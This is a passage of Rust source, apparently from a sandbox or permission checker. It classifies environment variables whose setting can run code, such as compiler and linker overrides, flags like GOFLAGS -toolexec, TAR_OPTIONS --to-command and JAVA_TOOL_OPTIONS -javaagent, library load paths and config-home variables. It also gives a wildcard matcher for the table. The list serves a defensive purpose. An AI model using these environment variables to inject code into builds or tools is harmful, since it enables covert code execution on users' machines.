        ("AS", Program),
        ("FC", Program),
        ("NM", Program),
        ("RANLIB", Program),
        ("STRIP", Program),
        ("OBJCOPY", Program),
        ("HOSTCC", Program),
        ("CROSS_COMPILE", Program),
        ("PKG_CONFIG", Program),
        ("RUSTC", Program),
        ("RUSTDOC", Program),
        ("RUSTC_WRAPPER", Program),
        ("RUSTC_WORKSPACE_WRAPPER", Program),
        ("CARGO_BUILD_RUSTC", Program),
        ("CARGO_BUILD_RUSTC_WRAPPER", Program),
        ("CARGO_BUILD_RUSTDOC", Program),
        ("CARGO_TARGET_*_RUNNER", Program),
        ("CARGO_TARGET_*_LINKER", Program),
        ("CARGO_HOST_LINKER", Program),
        ("CONFIG_SHELL", Program),
        ("MAKESHELL", Program),
        ("BROWSER", Program),
        ("TERMINAL", Program),
        (
            "GOFLAGS",
            Options(&[
                "-toolexec",
                "-exec",
                "-vettool",
                "-overlay",
                "-modfile",
                "-extld",
                "-compiler",
                "-gccgoflags",
                "-ldflags",
            ]),
        ),
        (
            "RUSTFLAGS",
            Options(&["linker", "link-arg", "-Z", "plugin", "-L", "link-args"]),
        ),
        (
            "CARGO_ENCODED_RUSTFLAGS",
            Options(&["linker", "link-arg", "-Z", "plugin", "-L"]),
        ),
        (
            "CARGO_BUILD_RUSTFLAGS",
            Options(&["linker", "link-arg", "-Z", "plugin", "-L"]),
        ),
        (
            "RUSTDOCFLAGS",
            Options(&[
                "linker",
                "link-arg",
                "-Z",
                "plugin",
                "--runtool",
                "--test-builder",
            ]),
        ),
        (
            "TAR_OPTIONS",
            Options(&[
                "--checkpoint-action",
                "--to-command",
                "--use-compress-program",
                "-I",
                "--rsh-command",
                "--info-script",
                "--new-volume-script",
                "-F",
                "--rmt-command",
                "-C",
                "--directory",
            ]),
        ),
        (
            "PYTEST_ADDOPTS",
            Options(&[
                "-p",
                "--pdbcls",
                "-c",
                "--config-file",
                "--rootdir",
                "--confcutdir",
                "-o",
                "--override-ini",
                "--basetemp",
            ]),
        ),
        (
            "NODE_OPTIONS",
            Options(&[
                "--require",
                "-r",
                "--import",
                "--loader",
                "--experimental-loader",
                "--inspect",
                "--env-file",
            ]),
        ),
        ("PERL5OPT", Options(&["-M", "-m", "-d", "-I"])),
        ("RUBYOPT", Options(&["-r", "-I", "--require"])),
        (
            "JAVA_TOOL_OPTIONS",
            Options(&[
                "-javaagent",
                "-agentpath",
                "-agentlib",
                "-XX:OnError",
                "-XX:OnOutOfMemoryError",
                "-Djava.library.path",
            ]),
        ),
        (
            "_JAVA_OPTIONS",
            Options(&[
                "-javaagent",
                "-agentpath",
                "-agentlib",
                "-XX:OnError",
                "-XX:OnOutOfMemoryError",
            ]),
        ),
        (
            "JDK_JAVA_OPTIONS",
            Options(&[
                "-javaagent",
                "-agentpath",
                "-agentlib",
                "-XX:OnError",
                "-XX:OnOutOfMemoryError",
            ]),
        ),
        (
            "MAKEFLAGS",
            Options(&[
                "SHELL=", "--eval", "-f", "--file", "CC=", "CXX=", "-C", "-I",
            ]),
        ),
        (
            "CFLAGS",
            Options(&["-fplugin", "-wrapper", "-B", "-specs", "--specs"]),
        ),
        (
            "CXXFLAGS",
            Options(&["-fplugin", "-wrapper", "-B", "-specs", "--specs"]),
        ),
        (
            "CPPFLAGS",
            Options(&["-fplugin", "-wrapper", "-B", "-specs", "--specs"]),
        ),
        (
            "LDFLAGS",
            Options(&[
                "-fplugin",
                "-wrapper",
                "-B",
                "-specs",
                "--specs",
                "-fuse-ld=/",
                "--ld-path",
            ]),
        ),
        ("LESS", Options(&["+!", "--lesskey-file"])),
        ("LD_LIBRARY_PATH", LoadPath),
        ("DYLD_LIBRARY_PATH", LoadPath),
        ("DYLD_FRAMEWORK_PATH", LoadPath),
        ("GCONV_PATH", LoadPath),
        ("NODE_PATH", LoadPath),
        ("PERL5LIB", LoadPath),
        ("PERLLIB", LoadPath),
        ("RUBYLIB", LoadPath),
        ("LUA_PATH", LoadPath),
        ("LUA_CPATH", LoadPath),
        ("PYTHONSTARTUP", LoadPath),
        ("PYTHONUSERBASE", LoadPath),
        ("PYTHONHOME", LoadPath),
        ("PYTEST_PLUGINS", LoadPath),
        ("GOROOT", LoadPath),
        ("GOTOOLDIR", LoadPath),
        ("HOME", ConfigHome),
        ("XDG_CONFIG_HOME", ConfigHome),
        ("XDG_CONFIG_DIRS", ConfigHome),
        ("XDG_DATA_HOME", ConfigHome),
        ("CURL_HOME", ConfigHome),
        ("ZDOTDIR", ConfigHome),
        ("INPUTRC", ConfigHome),
        ("WGETRC", ConfigHome),
        ("CARGO_HOME", ConfigHome),
        ("RUSTUP_HOME", ConfigHome),
        ("GRADLE_USER_HOME", ConfigHome),
        ("JAVA_HOME", ConfigHome),
        ("IPYTHONDIR", ConfigHome),
        ("JUPYTER_CONFIG_DIR", ConfigHome),
        ("MPLCONFIGDIR", ConfigHome),
        ("GNUPGHOME", ConfigHome),
        ("DOCKER_CONFIG", ConfigHome),
        ("KUBECONFIG", ConfigHome),
        ("PIP_CONFIG_FILE", ConfigHome),
        ("NPM_CONFIG_USERCONFIG", ConfigHome),
        ("NPM_CONFIG_GLOBALCONFIG", ConfigHome),
        ("YARN_RC_FILENAME", ConfigHome),
        ("*RC", ConfigHome),
        ("*_CONFIG", ConfigHome),
        ("*_CONFIG_FILE", ConfigHome),
        ("*_CONFIG_DIR", ConfigHome),
        ("*_CONFIG_HOME", ConfigHome),
        ("*_CONFIG_PATH", ConfigHome),
    ]
};

/// The effect of setting `name` (see [`ENV_EFFECTS`]).
pub fn env_effect(name: &str) -> Option<EnvEffect> {
    ENV_EFFECTS.iter().find_map(|(pat, eff)| {
        let hit = match pat.split_once('*') {
            None => *pat == name,
            Some((pre, suf)) => {
                name.len() > pre.len() + suf.len() && name.starts_with(pre) && name.ends_with(suf)
            }
        };
        hit.then_some(*eff)
    })
}
